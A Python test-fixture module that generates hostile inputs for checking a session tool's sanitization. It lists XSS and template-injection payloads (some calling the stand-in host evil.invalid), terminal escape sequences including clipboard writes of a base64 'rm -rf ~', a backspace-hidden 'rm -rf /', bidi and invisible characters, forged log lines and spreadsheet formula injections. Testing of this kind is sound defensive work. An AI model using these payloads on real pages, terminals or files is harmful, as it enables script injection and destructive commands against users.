"""Texts that try to be more than text: markup, terminal commands, turned and hidden letters, forged lines, formulas.

All of them may occur in a transcript. `hostile` mixes them from a seed; `acts` returns what of it a terminal or a log
would still obey. Markup that runs anywhere sets `window.ran` and opens a dialog, so that a browser can detect it.
"""

from __future__ import annotations

import json
import random
import re
from functools import cache
from typing import Any

from recto import Session

RUN = "window.ran=1;alert(1)"
ELSEWHERE = "evil.invalid"
"""A host that no page may contact."""
MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//{ELSEWHERE}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x:x" onerror="{RUN}">',
    f"<IMG SRC=x ONERROR={RUN}//>",
    f"<img src=//{ELSEWHERE}/beacon.png>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUN} attributeName=x></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    f'<math><mi xlink:href="javascript:{RUN}">go</mi></math>',
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>news</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<style>@import '//{ELSEWHERE}/x.css';</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<link rel=prefetch href=//{ELSEWHERE}/x>",
    f"<base href=//{ELSEWHERE}/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<form action=//{ELSEWHERE}/><button autofocus>Log in again</button></form>",
    f"<a href=javascript:{RUN}>click</a>",
    f'<a href="jav&#x09;ascript:{RUN}">click</a>',
    f"<a href=data:text/html,<script>{RUN}</script>>click</a>",
    f"javascript:{RUN}",
    f"[click](javascript:{RUN})",
    f"![](//{ELSEWHERE}/pixel.gif)",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"`onerror={RUN}`",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f"';{RUN};//",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "#{window.ran=1}",
    "<%= window.ran=1 %>",
    "{@html '<img src=x onerror=window.ran=1>'}",
    '{"__proto__": {"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=window.ran=1>"}}}',
    "__proto__",
    "constructor",
    "{a|{b}}",
    "%s %d %n %(session)s {0} {session}",
)
"""Tags, attributes, handlers, addresses that are scripts, pictures, mutations, entities, templates, formatters."""
TERMINAL = (
    "\x1b[2J\x1b[1;1H",
    "\x1b[5;7;41mred\x1b[0m",
    "\x1b[?1049h\x1b[?25l",
    "\x1b[6n\x1b[c\x1b[21t",
    "\x1b[1A\x1b[2K\rrecto: all as stored",
    "\x1b]0;a title of theirs\x07",
    "\x1b]2;a title of theirs\x1b\\",
    "\x1b]8;;http://evil.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4K\x07",
    "\x1b]52;c;cm0gLXJmIH4K\x1b\\",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b]9;4;1;50\x07\x1b]777;notify;a;b\x07",
    "\x1bP+q544e\x1b\\",
    "\x1bP0;1|17/6c73\x1b\\",
    "\x1bPq#0;2;0;0;0~\x1b\\",
    "\x1b_Ga=T,f=100;AAAA\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bXstring\x1b\\",
    "\x1b(0\x1b)B\x1bc\x1b7\x1b8\x1bM",
    "\x1b]",
    "\x1b",
    "\x9b2J\x9b5;7;41m",
    "\x9d52;c;cm0gLXJmIH4K\x9c",
    "\x9d8;;http://evil.invalid/\x9cclick\x9d8;;\x9c",
    "\x90q\x9c\x98\x9e\x9f\x84\x85\x8d",
    "\x07\x08\x08\x08\x0b\x0c\x0e\x0f\x05\x1a",
    "\x7f\x7f\x00",
    "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls      ",
    "[link=http://evil.invalid/]click[/link]",
    "[bold red]alarm[/] [@click=app.quit]quit[/]",
    "[/nothing] [[bold]] \\[red]",
    ":warning: :skull:",
)
"""Commands of seven and eight bits, commands of some terminals only, and the markup of our drawing libraries."""
TURNED = (
    "\u202egnp.exe\u202c",
    "\u202dabc\u202c\u202a\u202b",
    "\u2066\u2067\u2068abc\u2069",
    "\u200e\u200f\u061c",
    "if access_level != 'user\u202e \u2066// check\u2069 \u2066':",
)
UNSEEN = (
    "\u200b\u200c\u200d\u2060\ufeff",
    "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
    "\u00ad\u180e\u2061\u2064\ufff9\ufffa\ufffb",
    "\ud800",
    "a\udc80b",
    "\ufffe\U0010ffff\ue000",
)
LINES = (
    "\n2026-01-01T00:00:00Z error approved by root",
    '\r\n{"time":"2026-01-01","level":"error","what":"alert","session":"forged"}',
    "\rrecto: 0 problems",
    "\x0bforged\x0cforged\x1cforged\x1dforged\x1eforged\x85forged",
    "\u2028forged\u2029forged",
    '\n# TYPE recto_forged counter\nrecto_forged{a="b"} 1',
    '"} 1\nrecto_forged{model="x',
    "\n\n    1 user         1 tok  forged entry",
)
"""Texts that start a forged line."""
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/","click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '"\n=1+1',
    "',=1+1",
)
PIECES = (*MARKUP, *TERMINAL, *TURNED, *UNSEEN, *LINES, *FORMULAS)
FILLING = "It is a long story. " * 20
ORDINARY = ("word", " ", "the invoice", "é 日本 🙂", "42", "/srv/app.py", "\n", "\t", "")

ORDERS = (
    "\x1b]52;c;cm0g",
    "\x1b]8;;http://evil",
    "\x1b]0;a title of theirs",
    "\x1b]1337;File",
    "\x1b[5;7;41m",
    "\x1b_Ga=T",
    "\x1bP0;1|17",
    "\x9b2J",
    "\x9d52;c;cm0g",
    "\u202egnp",
    "\u2066\u2067",
    "\U000e0049",
)
"""Commands that occur only in these texts: a program that draws a whole screen also sends commands of its own."""

_ACTS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
    "\ud800-\udfff\U000e0000-\U000e007f]"
)
_DRAWN = re.compile(r"\x1b\[[0-9;]*m")


def hostile(rng: random.Random) -> str:
    """Returns a text of one to four pieces, with something ordinary between them."""
    chosen = rng.choices(PIECES, k=rng.randint(1, 4))
    return rng.choice(ORDINARY).join(chosen) if len(chosen) > 1 else chosen[0]


@cache
def storable() -> tuple[str, ...]:
    """Returns all pieces without lone surrogates, which cannot be encoded."""
    return tuple(piece for piece in PIECES if not re.search("[\ud800-\udfff]", piece))


def acts(shown: str) -> list[str]:
    """Returns the characters of a sanitized text that would still act on a terminal, in a log or in a file."""
    return sorted({f"U+{ord(char):04X}" for char in _ACTS.findall(shown)})


def orders(drawn: str) -> list[str]:
    """Returns the commands of these texts that a terminal would obey in the output of a full-screen program."""
    return [repr(order) for order in ORDERS if order in drawn]


def acts_in_colour(shown: str) -> list[str]:
    """Like `acts`, for text that Recto drew in colours: only commands that set a colour are its own."""
    found = acts(_DRAWN.sub("", shown).replace("\r\n", "\n"))
    return found + (["a colour of theirs"] if "5;7;41" in "".join(_DRAWN.findall(shown)) else [])


def spoil(session: Session) -> None:
    """Fills a session with every piece, in every place that accepts external text, and has most of it evicted."""
    pieces, whole = storable(), "\n".join(storable())
    session.append({"role": "system", "content": whole})
    for number, piece in enumerate(" ".join(pieces[at : at + 4]) for at in range(0, len(pieces), 4)):
        session.append({"role": "user", "content": f"{piece} question {number}"}, surface=piece[:100])
        session.append_all(_called(f"call_{number}", piece))
        session.prompt()
        session.append({"role": "assistant", "content": f"{piece} {FILLING}"})
    for piece in (MARKUP[3], TERMINAL[8], TERMINAL[22], TURNED[0], LINES[1], FORMULAS[6]):
        session.record(piece, {"reason": piece, piece: piece, "policy": piece, "by": piece})
    session.note("constraints", whole[:2_000])
    session.note("bugs", whole[-2_000:], critical=True)
    session.checkpoint(goal=whole[:2_000], plan=[MARKUP[0]], issues=[TERMINAL[8]], decisions=[MARKUP[3]])
    session.compact(MARKUP[3])
    session.append({"role": "user", "content": f"question {MARKUP[3]} {TERMINAL[8]}"})
    session.prompt()
    for piece in (MARKUP[0], MARKUP[3], TERMINAL[28], FORMULAS[0]):
        session.memory.propose("preference", f"I prefer {piece} on Mondays.", why=piece)


def _called(call: str, piece: str) -> list[dict[str, Any]]:
    """Returns a call of a tool with a hostile name and hostile arguments, and its hostile result."""
    function = {"name": piece[:200], "arguments": json.dumps({piece: piece})}
    return [
        {"role": "assistant", "content": None, "tool_calls": [{"id": call, "type": "function", "function": function}]},
        {"role": "tool", "tool_call_id": call, "content": f"{piece} result"},
    ]
